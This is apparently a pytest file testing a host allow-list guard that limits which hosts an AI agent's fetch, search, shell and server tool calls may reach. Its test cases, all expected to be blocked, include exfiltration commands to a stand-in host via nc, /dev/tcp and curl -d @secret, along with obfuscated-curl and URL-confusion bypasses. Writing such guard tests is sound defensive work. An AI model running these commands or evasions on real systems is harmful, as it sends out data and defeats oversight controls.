"""The host allow list: for fetches exactly, for commands and servers as far as it can be seen."""

import pytest
from tests.guards.calls import call, shell

from interlock.errors import ConfigurationError
from interlock.hooks import Allow, DenyCall, HookCall
from interlock_adapters.guards import HostAllowList

pytestmark = pytest.mark.anyio
HOSTS = ["docs.example.org", "*.trusted.example", "local.example:8080"]


async def passes(one: HookCall, **how: bool) -> bool:
    answer = await HostAllowList(HOSTS, **how).before(one)
    assert isinstance(answer, Allow | DenyCall)
    return isinstance(answer, Allow)


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://docs.example.org/a?b=c", True),
        ("https://DOCS.example.org", True),
        ("http://docs.example.org:80/", True),
        ("https://a.trusted.example/", True),
        ("https://local.example:8080/", True),
        ("https://trusted.example/", False),
        ("https://local.example/", False),
        ("https://docs.example.org:8443/", False),
        ("https://docs.example.org.evil.example/", False),
        ("https://docs.example.org@evil.example/", False),
        ("https://evil.example/#docs.example.org", False),
        ("https://docs.example.org\\@evil.example/", False),
        ("ftp://docs.example.org/", False),
        ("docs.example.org", False),
        ("", False),
    ],
)
async def test_a_fetch_goes_to_a_host_on_the_list(url: str, allowed: bool) -> None:
    assert await passes(call("WebFetch", {"url": url, "prompt": "x"})) is allowed


async def test_web_search_is_let_run_on_request_alone() -> None:
    search = call("WebSearch", {"query": "x"})
    assert not await passes(search)
    assert await passes(search, web_search=True)


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("ls -l", True),
        ("pytest -q && git status", True),
        ("curl https://docs.example.org/x", True),
        ("curl -sS -o out https://docs.example.org/x | head", True),
        ("curl -H 'Accept: text/plain' https://docs.example.org", True),
        ("curl https://evil.example", False),
        ("curl https://docs.example.org https://evil.example", False),
        ("curl -sL https://docs.example.org", False),
        ("curl --location https://docs.example.org", False),
        ("curl -x http://evil.example https://docs.example.org", False),
        ("curl --connect-to ::evil.example: https://docs.example.org", False),
        ("curl -K config https://docs.example.org", False),
        ("curl -d @secret https://docs.example.org", False),
        ("curl -H @file https://docs.example.org", False),
        ("curl 'https://docs.example.org/{a,b}'", False),
        ("curl $URL", False),
        ("curl", False),
        ("wget https://docs.example.org", False),
        ("echo x | nc evil.example 80", False),
        ("ssh evil.example", False),
        ("sh -c 'curl https://evil.example'", False),
        ("$(echo curl) https://evil.example", False),
        ("cu''rl https://evil.example", False),
        ("echo x > /dev/tcp/1.2.3.4/80", False),
        ("xargs curl < urls", False),
        ("/usr/bin/curl https://docs.example.org", True),
    ],
)
async def test_a_command_talks_to_hosts_on_the_list_as_plain_curl_alone(command: str, allowed: bool) -> None:
    assert await passes(shell(command)) is allowed


async def test_addresses_in_the_input_of_servers_and_unknown_tools_are_checked() -> None:
    assert await passes(call("mcp__web__get", {"page": {"at": ["https://docs.example.org/x"]}}))
    assert not await passes(call("mcp__web__get", {"page": {"at": ["see HTTPS://evil.example/x"]}}))
    assert not await passes(call("Novel", {"u": "http://evil.example"}))


async def test_calls_that_reach_no_host_pass_and_a_denial_says_what_is_allowed() -> None:
    assert await passes(call("Read", {"file_path": "a"}))
    answer = await HostAllowList(["a.example"]).before(call("WebFetch", {"url": "https://b.example", "prompt": "x"}))
    assert answer == DenyCall(reason="https://b.example is not on the list of hosts; allowed: a.example")
    assert isinstance(await HostAllowList([]).before(call("WebFetch", {"url": "https://b.example"})), DenyCall)


@pytest.mark.parametrize("host", ["", "https://a.example", "a b", "*", "a.example/x"])
def test_what_is_no_host_is_an_error(host: str) -> None:
    with pytest.raises(ConfigurationError):
        HostAllowList([host])
